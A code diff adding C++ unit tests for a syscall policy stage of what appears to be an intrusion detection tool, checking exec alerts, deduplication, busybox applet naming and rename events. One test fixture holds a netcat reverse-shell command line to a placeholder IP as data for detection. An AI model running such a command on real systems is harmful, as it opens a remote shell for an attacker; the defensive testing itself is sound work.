@@ -179,6 +179,71 @@ TEST(PolicyStage, OtherEventsAreNotJudged) {
     EXPECT_EQ(e->syscall.path, "/etc/shadow");
 }
 
+TEST(PolicyStage, AnExecAlertNamesTheNewProgramAndIsNotRepeatedByTheListing) {
+    Collect out;
+    PolicyStage stage(out, rules());
+    SyscallCall c;
+    c.nr = 59;
+    c.data_arg = 0;
+    c.data = "/tmp/dropper";
+    c.tgid = 40;
+    c.comm = "sh";  // the caller, before the exec
+    c.argv = {"/tmp/dropper", "-x"};
+    c.argv_captured = true;
+    c.argv_arg = 1;
+    stage.emit(syscall_event(c, nullptr, "vm1"));
+    ASSERT_EQ(out.got.size(), 2u);
+    EXPECT_EQ(out.got[1]["process"]["name"], "dropper");
+    EXPECT_EQ(out.got[1]["process"]["exe"], "/tmp/dropper");
+    EXPECT_EQ(out.got[1]["process"]["args"], nlohmann::json({"/tmp/dropper", "-x"}));
+    EXPECT_EQ(out.got[1]["process"]["pid"], 40);
+    // The listing then catches the same program in the same process: no second alert.
+    nlohmann::json listed = {
+        {"event", {{"action", "process-exec"}}},
+        {"process", {{"pid", 40}, {"name", "dropper"}, {"exe", "/tmp/dropper"}}}};
+    stage.emit(listed);
+    EXPECT_EQ(out.got.size(), 3u);
+    // Another process running it is another exec.
+    listed["process"]["pid"] = 41;
+    stage.emit(listed);
+    EXPECT_EQ(out.got.size(), 5u);
+}
+
+TEST(PolicyStage, AMultiCallBinaryRerunningItselfIsNamedByArgv0) {
+    SyscallCall c;
+    c.nr = 59;
+    c.data_arg = 0;
+    c.data = "/proc/self/exe";  // busybox runs its applets so
+    c.tgid = 50;
+    c.comm = "sh";
+    c.argv = {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"};
+    c.argv_captured = true;
+    c.argv_arg = 1;
+    GuestProcess caller;
+    caller.pid = 50;
+    caller.comm = "sh";
+    caller.exe = "/bin/busybox";
+    const auto e = exec_from_syscall(syscall_event(c, &caller, "vm1"));
+    ASSERT_TRUE(e);
+    EXPECT_EQ(e->proc.name, "nc");
+    EXPECT_EQ(e->proc.exe, "/bin/busybox");
+    EXPECT_EQ(e->proc.cmdline, "nc 192.0.2.1 4444 -e /bin/sh");
+}
+
+TEST(PolicyStage, RenamesAreJudgedByTheirDestination) {
+    SyscallCall c;
+    c.nr = 82;  // rename
+    c.data_arg = 1;
+    c.data = "/usr/bin/ls";
+    c.tgid = 60;
+    c.comm = "mv";
+    c.ret = 0;
+    const auto e = to_policy_event(syscall_event(c, nullptr, "vm1"));
+    ASSERT_TRUE(e);
+    EXPECT_EQ(e->syscall.name, "rename");
+    EXPECT_EQ(e->syscall.path, "/usr/bin/ls");
+}
+
 TEST(PolicyStage, TrappedSyscallsAreTheOnesRulesNeed) {
     // The exec rule needs every execve, as it is made; the syscall rules their own calls.
     EXPECT_EQ(syscalls_needed(rules()),
